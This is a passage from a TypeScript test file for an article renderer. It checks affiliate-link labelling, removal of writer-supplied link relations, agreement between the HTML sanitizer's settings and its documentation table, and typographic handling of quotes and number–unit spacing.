    [
      "in a list, a heading, a table and a quotation",
      `- ${vendorLink()}\n\n## ${vendorLink()}\n\n| ${vendorLink()} |\n|---|\n| b |\n\n> ${vendorLink()}`,
    ],
    ["in emphasis", `A **very ${vendorLink()}** and *${vendorLink()}*`],
    ["at the end of a division", `<div>Buy <a href="${vendor}" rel=sponsored>pot</a></div>`],
    ["two side by side", `${vendorLink()} ${vendorLink()}`],
    ["with a picture in it", `<p><a href="${vendor}" rel=sponsored><img src="${picture}" alt="A pot"></a></p>`],
  ])("each is labelled once: %s", (_where, source) => {
    const once = html(source);
    const links = once.match(/<a /g)?.length;
    expect(once.match(/<small class="affiliate-label">\(Affiliate link\)<\/small>\u00a0<a /g)).toHaveLength(links ?? 0);
    expect(faults(once)).toEqual([]);
    expect(html(once)).toBe(once);
  });

  test("a label that the writer has put before it is enough", () => {
    expect(html(`Affiliate link: [pot](${vendor} "affiliate link")`)).toBe(`<p>Affiliate link: ${link(vendor)}</p>`);
  });

  test("no other link is labelled, and no writer's relation comes through", () => {
    expect(
      html(`<p><a href="${vendor}" rel="opener me author" title="Pots">pot</a> <a href=/shop rel=sponsored>s</a></p>`),
    ).toBe(`<p><a href="${vendor}" title="Pots" rel="noopener">pot</a> <a href="/shop">s</a></p>`);
  });

  test("an address that only names its host is another site's", () => {
    expect(html("<p><a href=//shop.test/pot rel=sponsored>pot</a></p>")).toBe(`<p>${label}${link(vendor)}</p>`);
  });

  function vendorLink() {
    return `[pot](${vendor} "affiliate link")`;
  }
});

describe("docs/article-text.md", () => {
  const guide = readFileSync("docs/article-text.md", "utf8");
  /** The cells of a table's rows, each as the words in backticks. */
  const tableAfter = (heading: string) =>
    (guide.split(`\n| ${heading}`)[1]?.split("\n\n")[0] ?? "")
      .split("\n")
      .slice(2)
      .map((row) =>
        row
          .split("|")
          .slice(1, -1)
          .map((cell) => [...cell.matchAll(/`([^`]+)`/g)].map(([, word]) => word)),
      );

  test("names every element and attribute that is kept, and no other", () => {
    const documented = tableAfter("Elements").flatMap(([elements = [], attributes = []]) =>
      elements.map((element) => [element, attributes.toSorted()] as const),
    );
    const kept = sanitizerOptions.tagNames.map(
      (name) =>
        [
          name,
          ((sanitizerOptions.attributes as Record<string, string[]>)[name] ?? [])
            .map((each) => each.toLowerCase())
            .toSorted(),
        ] as const,
    );
    expect(new Map(documented)).toEqual(new Map(kept));
    expect(documented).toHaveLength(kept.length);
  });

  test("names every kind of address that is kept, and no other", () => {
    const documented = Object.fromEntries(
      tableAfter("Addresses in").map(([[name = ""] = [], schemes]) => [name, schemes]),
    );
    const kept = Object.entries(sanitizerOptions.protocols).map(([name, schemes]) => [
      name,
      schemes.map((scheme) => `${scheme}:`),
    ]);
    expect(documented).toEqual({ ...Object.fromEntries(kept), src: ["/images/"] });
  });

  test("names every element that goes with all it holds, and no other", () => {
    expect(tableAfter("What ")[0]?.[0]?.toSorted()).toEqual(sanitizerOptions.strip.toSorted());
  });
});

test("no line ends between a number and its unit, except in code; search finds what was typed", () => {
  const { html, text } = renderArticleBody("It is 30 cm wide, *2 kg* heavy. `5 mm`");
  expect(html).toContain("It is 30\u00a0cm wide, <em>2\u00a0kg</em> heavy. <code>5 mm</code>");
  expect(text).toContain("30 cm");
  expect(renderArticleBody(html).html).toBe(html);
});

test("readers get typographic signs in words, also across elements; search and code keep the typed ones", () => {
  const source = `It's "*so*", **"she** said" -- \`it's "code"\`.\n\n    "x"\n\n- "one\n- two"\n\n![A "b"](/images/0123456789abcdef01234567-10x10.webp "c's")`;
  const { html, text } = renderArticleBody(source);
  expect(html).toContain(`<p>It’s “<em>so</em>”, <strong>“she</strong> said” – <code>it's "code"</code>.</p>`);
  expect(html).toContain(`<code>"x"\n</code>`);
  // Each item is a paragraph of its own.
  expect(html).toContain("<li>“one</li>\n<li>two”</li>");
  expect(html).toContain("c’s</figcaption>");
  expect(html).toMatch(/alt="A (?:"|&#x22;|&quot;)b/);
  expect(text).toContain(`It's "so"`);
  expect(renderArticleBody(html).html).toBe(html);
  expect(renderArticleBody(source, undefined, { asTyped: true }).html).toContain(`<p>It's "<em>so</em>"`);
});
